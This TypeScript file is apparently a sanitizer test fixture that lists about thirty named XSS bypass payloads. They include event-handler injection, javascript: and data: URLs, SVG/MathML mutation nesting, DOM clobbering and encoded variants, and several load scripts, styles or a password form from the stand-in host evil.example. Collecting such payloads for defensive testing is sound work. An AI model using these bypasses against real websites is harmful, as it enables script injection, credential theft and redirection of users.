/**
 * HTML that is known to have run somewhere. Each would set `window.hit`, or fetch from elsewhere,
 * where it came through.
 */
export const hostilePayloads: Readonly<Record<string, string>> = {
  'image error': '<img src=x onerror="window.hit=1">',
  'image from elsewhere':
    '<img src="https://evil.example/pixel.png"><img srcset="https://evil.example/a.png 2x">',
  'svg load': '<svg onload="window.hit=1"><circle/></svg>',
  'svg script': '<svg><script>window.hit=1</script></svg>',
  'svg use':
    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>parent.hit=1</script></svg>#x"/></svg>',
  'svg animate':
    '<svg><a><animate attributeName=href values="javascript:window.hit=1" /><text y=20>link</text></a></svg>',
  script: '<script>window.hit=1</script><script src="https://evil.example/x.js"></script>',
  'javascript link':
    '<a href="javascript:window.hit=1">link</a><a href="JaVaScRiPt&colon;window.hit=1">link</a><a href=" &#1;java&Tab;script:window.hit=1">link</a>',
  'data link': '<a href="data:text/html,<script>opener.hit=1</script>">link</a>',
  'protocol-relative link':
    '<a href="//evil.example/">link</a><a href="/\\evil.example/">link</a><a href="http://evil.example/">link</a>',
  'data object':
    '<object data="data:text/html,<script>parent.hit=1</script>"></object><embed src="data:text/html,x">',
  'frame srcdoc': '<iframe srcdoc="<script>parent.hit=1</script>"></iframe>',
  'frame address':
    '<iframe src="javascript:parent.hit=1"></iframe><iframe src="https://evil.example/"></iframe>',
  base: '<base href="https://evil.example/"><a href="/rng">link</a>',
  meta: '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  link: '<link rel="stylesheet" href="https://evil.example/x.css"><link rel="prefetch" href="https://evil.example/">',
  style:
    '<style>@import "https://evil.example/x.css"; body{display:none}</style><p style="background:url(https://evil.example/p.png);position:fixed;inset:0">words</p>',
  form: '<form action="https://evil.example/"><input name=password autofocus onfocus="window.hit=1"><button>Log in</button></form>',
  'form action':
    '<form id=f></form><button form=f formaction="javascript:window.hit=1">go</button><input type=image src=x onerror="window.hit=1">',
  'math nesting':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hit=1&gt;">',
  'math style':
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.hit=1>',
  'svg style': '<svg></p><style><a id="</style><img src=1 onerror=window.hit=1>">',
  'noscript nesting': '<noscript><p title="</noscript><img src=x onerror=window.hit=1>">',
  'noembed nesting':
    '<noembed><img title="</noembed><img src=x onerror=window.hit=1>"></noembed><xmp><img title="</xmp><img src onerror=window.hit=1>"></xmp>',
  'textarea nesting':
    '<textarea><img title="</textarea><img src=x onerror=window.hit=1>"></textarea><title><a title="</title><img src onerror=window.hit=1>"></title>',
  template:
    '<template><img src=x onerror="window.hit=1"></template><template shadowrootmode="open"><script>window.hit=1</script></template>',
  'deep nesting': `${'<div>'.repeat(600)}<style><img src=x onerror=window.hit=1></style>`,
  'broken tags':
    '<img/src/onerror=window.hit=1><<script>window.hit=1//<</script><a href=x onclick=window.hit=1 href="javascript:window.hit=1">link',
  'entities and control characters':
    '<img src=x onerror=&#119;indow.hit=1><scr\u0001ipt>window.hit=1</scr\u0001ipt><a href="java\u0009script:window.hit=1">link</a>',
  clobbering:
    '<a id=livery></a><a id=content name=location></a><form name=body><input name=cookie></form><img name=getElementById><div id="livery-bootstrap">x</div>',
  media:
    '<video src="https://evil.example/v" autoplay onloadstart="window.hit=1"><source onerror="window.hit=1" src="https://evil.example/s"></video><audio src=x onerror="window.hit=1"></audio>',
  details:
    '<details open ontoggle="window.hit=1"><summary>words</summary></details><marquee onstart="window.hit=1">x</marquee>',
  'custom elements':
    '<x-y onclick="window.hit=1" tabindex=1 onfocus="window.hit=1" autofocus>x</x-y><body onload="window.hit=1"><html onmouseover="window.hit=1">',
};
